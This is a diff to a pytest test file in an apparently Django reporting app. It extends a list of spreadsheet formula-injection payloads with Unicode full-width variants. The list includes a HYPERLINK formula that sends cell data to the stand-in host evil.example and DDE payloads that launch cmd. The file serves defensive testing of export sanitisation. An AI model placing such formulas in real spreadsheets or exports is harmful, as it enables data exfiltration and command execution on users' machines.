@@ -18,7 +18,9 @@ from tests.reports.conftest import rebuild, seed_learners
 pytestmark = pytest.mark.django_db
 
 PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            # full-width and small forms, which spreadsheet programs read as the ASCII ones
+            "＝HYPERLINK(\"http://evil.example\")", "＋1+1", "－2+3", "＠SUM(1+1)", "﹦1+1"]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
